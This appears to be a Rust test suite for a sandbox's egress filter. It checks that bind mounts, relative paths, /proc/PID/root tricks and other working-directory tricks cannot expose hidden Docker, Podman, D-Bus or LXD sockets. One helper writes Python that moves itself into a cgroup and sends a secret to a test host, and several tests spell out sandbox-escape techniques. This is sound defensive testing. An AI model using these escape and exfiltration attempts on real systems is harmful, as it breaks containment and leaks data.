//! Where the command stands: no working directory leads to what its mounts hide.
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use super::escape::listen;
use super::support::{Client, EGRESS, PYTHON, World};
use super::{ALLOWED, OTHER, SECRET, two_sites};

/// What a path to something hidden gives; the last where the null device lies over a socket.
pub(super) const HIDDEN: &[&str] = &["ENOENT", "ENOTDIR", "ECONNREFUSED"];

/// A world with services of its own below its directory `run`, which the tests mount over /run.
pub(super) struct Services {
    pub(super) world: World,
    pub(super) run: PathBuf,
    pub(super) reached: Arc<AtomicUsize>,
}

impl Services {
    pub(super) fn new() -> Self {
        let world = World::new().build();
        let run = world.path("run");
        let reached = Arc::new(AtomicUsize::new(0));
        for name in ["docker.sock", "podman/podman.sock", "user/0/bus", "user/65534/bus"] {
            listen(&run.join(name), &reached);
        }
        for kept in ["kept/below", "bound"] {
            std::fs::create_dir_all(run.join(kept)).expect("make a directory");
        }
        Services { world, run, reached }
    }

    /// Runs `client` with the world's `run` over /run, after a line of shell.
    fn over<'w>(&self, client: Client<'w>, line: &str) -> Client<'w> {
        client.mount(&self.run, "/run").after(line)
    }

    fn probe(&self, path: &str) -> Vec<String> {
        let script = self.world.path("probe.py").display().to_string();
        vec![PYTHON.to_owned(), script, format!("unix {path}")]
    }

    /// Claims that `path`, from where `line` goes, reaches a service without the filter, and that the
    /// command under it finds nothing there, or is not started (`refused`).
    #[track_caller]
    fn hold(&self, line: &str, path: &str, refused: Option<&str>) {
        let before = self.reached.load(Ordering::SeqCst);
        let out = self.over(self.world.direct(), line).run(self.probe(path));
        out.probe(&format!("unix {path}"), &["ok"]);
        super::support::processes::eventually("the service was heard", || {
            self.reached.load(Ordering::SeqCst) == before + 1
        });
        for options in [&[][..], &["--user", "nobody"]] {
            let out = self.over(self.world.egress(options), line).run(self.probe(path));
            match refused {
                Some(why) => out.exited(125).complained(why).printed(""),
                None => out.succeeded().probe(&format!("unix {path}"), HIDDEN),
            };
            let reached = self.reached.load(Ordering::SeqCst);
            assert_eq!(reached, before + 1, "{options:?}: a service was reached\n{out}");
        }
    }
}

#[test]
#[ignore = "kernel: needs root"]
pub(super) fn a_command_started_in_run_stands_in_its_own() {
    let services = Services::new();
    services.hold("cd /run", "docker.sock", None);
    services.hold("cd /run", "./podman/podman.sock", None);
    services.hold("cd /run/kept", "../docker.sock", None);
    services.hold("cd /run/kept/below", "../../docker.sock", None);
    services.hold("cd /run/kept/below", "../../../run/docker.sock", None);
    // What is not hidden is where it was.
    std::fs::write(services.run.join("kept/below/data"), "data").expect("write a file");
    let read = services.over(services.world.egress(&[]), "cd /run/kept/below");
    read.shell("pwd; cat data").succeeded().printed("/run/kept/below\ndata");
}

#[test]
#[ignore = "kernel: needs root"]
fn a_hidden_directory_is_no_place_to_start_in() {
    let services = Services::new();
    services.hold("cd /run/user/0", "bus", Some("the working directory /run/user/0 is hidden"));
    services.hold("cd /run/user/65534", "../65534/bus", Some("/run/user/65534 is hidden"));
    services.hold("cd /run/podman", "podman.sock", Some("/run/podman is hidden"));
    // A mount of its own, as /run/user/UID is: it is not in the table that `/run` gets anew.
    let mounted = "mount --bind /run/user/0 /run/user/65534 && cd /run/user/65534";
    services.hold(mounted, "bus", Some("/run/user/65534 is hidden"));
}

#[test]
#[ignore = "kernel: needs root"]
pub(super) fn other_mounts_of_run_show_no_more_than_it() {
    let services = Services::new();
    let make = "cd $(dirname $(readlink -f .)) && mkdir -p x y && : >f";
    let world = services.world.path(".").display().to_string();
    let make = make.replace("$(dirname $(readlink -f .))", &world);
    for (mount, path) in [
        // The whole of it, a socket, a directory, something deeper.
        ("mount --bind /run x", "x/docker.sock"),
        ("mount --bind /run x && mount --bind x y", "y/podman/podman.sock"),
        ("mount --bind /run/docker.sock f", "f"),
        ("mount --bind /run/podman x", "x/podman.sock"),
        ("mount --bind /run/user/0 x && mount --bind x y", "y/bus"),
        ("mount --bind /run/user/0/bus f", "f"),
        // What it lies in, where it is no file system of its own; and the path by which it was mounted.
        (&format!("mount --bind {world} x"), "x/run/docker.sock"),
        ("true", "run/docker.sock"),
        // Back into /run itself, by a name that is not hidden there.
        ("mount --bind /run/podman /run/kept && cd /run/kept", "podman.sock"),
        // A file system of its own below a hidden name, as /run/user/UID is.
        ("mount --bind /run/podman /run/user/0 && mount --bind /run/user/0 x", "x/podman.sock"),
    ] {
        services.hold(&format!("{make} && {mount}"), path, None);
    }
}

#[test]
#[ignore = "kernel: needs root"]
pub(super) fn other_mounts_of_what_is_hidden_elsewhere_show_nothing() {
    let services = Services::new();
    let made = tempfile::Builder::new().prefix("tmux-egress-").tempdir_in("/tmp");
    let made = made.expect("make a directory in /tmp");
    let all = std::fs::Permissions::from_mode(0o755);
    std::fs::set_permissions(made.path(), all).expect("open the directory to all");
    listen(&made.path().join("default"), &services.reached);
    listen(&made.path().join("deep/er/socket"), &services.reached);
    listen(&services.world.path("lib").join("lxd/unix.socket"), &services.reached);
    let world = services.world.path(".").display().to_string();
    let make = format!("cd {world} && mkdir -p x y && : >f");
    let dir = made.path().display().to_string();
    let lxd = "mount --bind lib /var/lib";
    for (mount, path) in [
        // Where it always was; what it lies in, it, and something of it, at another place.
        ("true".to_owned(), format!("{dir}/default")),
        ("mount --bind /tmp x".to_owned(), format!("x{}/default", &dir["/tmp".len()..])),
        ("mount --rbind / x".to_owned(), format!("x{dir}/default")),
        (format!("mount --bind {dir} x && mount --bind x y"), "y/default".to_owned()),
        (format!("mount --bind {dir}/deep x"), "x/er/socket".to_owned()),
        (format!("mount --bind {dir}/default f"), "f".to_owned()),
        // A file system of its own below it.
        (
            format!("mount --bind lib {dir}/deep && mount --bind {dir}/deep x"),
            "x/lxd/unix.socket".to_owned(),
        ),
        // Another of the list.
        (lxd.to_owned(), "/var/lib/lxd/unix.socket".to_owned()),
        (format!("{lxd} && mount --bind /var/lib x"), "x/lxd/unix.socket".to_owned()),
        (format!("{lxd} && mount --bind /var/lib/lxd/unix.socket f"), "f".to_owned()),
    ] {
        services.hold(&format!("{make} && {mount}"), &path, None);
    }
}

#[test]
#[ignore = "kernel: needs root"]
fn a_removed_directory_leads_nowhere() {
    let services = Services::new();
    let line = "mkdir /run/gone && cd /run/gone && rmdir /run/gone";
    services.hold(line, "../docker.sock", Some("no path leads to the working directory"));
}

#[test]
#[ignore = "kernel: needs root"]
fn a_directory_of_another_mount_namespace_leads_nowhere() {
    let services = Services::new();
    // A process outside, with the services in its /run.
    let outside = services.over(services.world.direct(), "true").idle_stdin();
    let outside = outside.start(["sh", "-c", "echo ready; read x"]);
    outside.says("ready");
    let line = format!("cd /proc/{}/root/run", outside.pid());
    services.hold(&line, "docker.sock", Some("no path leads to the working directory"));
    let line = format!("cd /proc/{}/cwd/run", outside.pid());
    services.hold(&line, "docker.sock", Some("no path leads to the working directory"));
}

#[test]
#[ignore = "kernel: needs root"]
pub(super) fn the_hosts_processes_are_not_behind_the_working_directory() {
    let services = Services::new();
    let world = &services.world;
    let nobody = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups"];
    let outside = services.over(world.direct(), "true").idle_stdin();
    let outside = outside.start(nobody.into_iter().chain(["sh", "-c", "echo ready; cd /; read x"]));
    outside.says("ready");
    let path = format!("{}/root/run/docker.sock", outside.pid());
    let probe = format!("unix {path}");
    let direct = world.direct().after("cd /proc");
    let as_nobody = nobody.map(str::to_owned).into_iter().chain(services.probe(&path));
    direct.run(as_nobody).probe(&probe, &["ok"]);
    super::support::processes::eventually("the service was heard", || {
        services.reached.load(Ordering::SeqCst) == 1
    });
    let out = world.egress(&["--user", "nobody"]).after("cd /proc").run(services.probe(&path));
    out.succeeded().probe(&probe, HIDDEN);
    // Standing in a host process's own directory: there is none of that number inside.
    let line = format!("cd /proc/{}", outside.pid());
    let out = world
        .egress(&["--user", "nobody"])
        .after(&line)
        .run(services.probe("root/run/docker.sock"));
    out.exited(125).complained("is hidden");
    assert_eq!(services.reached.load(Ordering::SeqCst), 1, "the service was reached\n{out}");
}

/// Python that writes itself into the cgroup behind a path, and then connects.
pub(super) fn moving(path: &str) -> String {
    format!(
        "import socket\n\
         try: open('{path}', 'w').write('0'); print('moved')\n\
         except OSError as e: print(e.strerror)\n\
         try: s = socket.create_connection(('{OTHER}', 22), 5); s.sendall(b'{SECRET}'); print('sent')\n\
         except OSError as e: print(e.strerror)"
    )
}

#[test]
#[ignore = "kernel: needs root"]
pub(super) fn no_group_is_behind_the_working_directory() {
    let world = two_sites();
    let groups = world.path("groups");
    std::fs::create_dir_all(groups.join("inner")).expect("make a mount point");
    let mount = format!("mount -t cgroup2 none {0} && cd {0}", groups.display());
    for path in ["cgroup.procs", "./../groups/cgroup.procs", "/proc/self/cwd/cgroup.procs"] {
        let attempt = moving(path);
        let out = world.egress(ALLOWED).after(&mount).run([PYTHON, "-c", &attempt]);
        assert!(!out.succeeded().text().contains("sent"), "{path}\n{out}");
        world.arrived_at(OTHER).none();
    }
    // Below the root there is nothing of that name inside.
    let below = format!("{mount}/egress");
    world.egress(ALLOWED).after(&below).run(["true"]).exited(125).complained("is hidden");
    world.direct().after(&mount).run([PYTHON, "-c", &moving("cgroup.procs")]).said("moved\nsent");
    world.arrived_at(OTHER).some();
}

#[test]
#[ignore = "kernel: needs root"]
pub(super) fn the_working_directory_is_as_read_only_as_its_path() {
    let world = World::new().build();
    // Opened and not written: a filter that fails here must not disturb the host.
    let attempt =
        "(: >>run) 2>/dev/null && echo opened; (: >>./../ksm/run) 2>/dev/null && echo opened; true";
    world.direct().after("cd /sys/kernel/mm/ksm").shell(attempt).printed("opened\nopened\n");
    world.egress(&[]).after("cd /sys/kernel/mm/ksm").shell(attempt).succeeded().printed("");
    let attempt = "(: >>ip_forward) 2>/dev/null && echo opened; true";
    world.direct().after("cd /proc/sys/net/ipv4").shell(attempt).printed("opened\n");
    world.egress(&[]).after("cd /proc/sys/net/ipv4").shell(attempt).succeeded().printed("");
}

#[test]
#[ignore = "kernel: needs root"]
fn other_directories_are_where_they_were() {
    let world = World::new().build();
    let (private, covered, over) =
        (world.path("private"), world.path("covered"), world.path("over"));
    for directory in [&private, &covered, &over] {
        std::fs::create_dir(directory).expect("make a directory");
        let name = directory.file_name().expect("a name").as_encoded_bytes();
        std::fs::write(directory.join("name"), name).expect("write a file");
    }
    // As with sudo: a user may stand where he could not go.
    std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o700)).expect("close it");
    let line = format!("cd {}", private.display());
    let here = std::fs::canonicalize(&private).expect("find it");
    for options in [&[][..], &["--user", "nobody"]] {
        let out = world.egress(options).after(&line).run(["readlink", "/proc/self/cwd"]);
        out.succeeded().printed(&format!("{}\n", here.display()));
    }
    // Root may be barred where the user is not, as from a home over NFS: the user goes there himself.
    let owner = nix::unistd::Uid::from_raw(65534);
    nix::unistd::chown(&private, Some(owner), None).expect("give it away");
    let less = "-dac_override,-dac_read_search";
    let cd = format!(
        "import os, sys; os.chdir('{}'); os.execvp(sys.argv[1], sys.argv[1:])",
        private.display()
    );
    let egress = |user| {
        let barred = ["setpriv", "--bounding-set", less, "--inh-caps", less];
        let egress = [EGRESS, "run", "--user", user, "--", "cat", "name"];
        let words = [PYTHON, "-c", &cd].into_iter().chain(barred).chain(egress);
        world.direct().run(words.collect::<Vec<_>>())
    };
    egress("nobody").succeeded().printed("private");
    egress("root").exited(125).complained("enter the working directory");
    // Entered before something was mounted there: the path leads to what lies over it.
    let line = format!("cd {0} && mount --bind {1} {0}", covered.display(), over.display());
    world.direct().after(&line).run(["cat", "name"]).printed("covered");
    world.egress(&[]).after(&line).run(["cat", "name"]).succeeded().printed("over");
    // A program by a relative path is the one that the command finds there.
    world
        .egress(&[])
        .after(&format!("cd {}", world.path(".").display()))
        .run(["./no-such"])
        .exited(127);
}
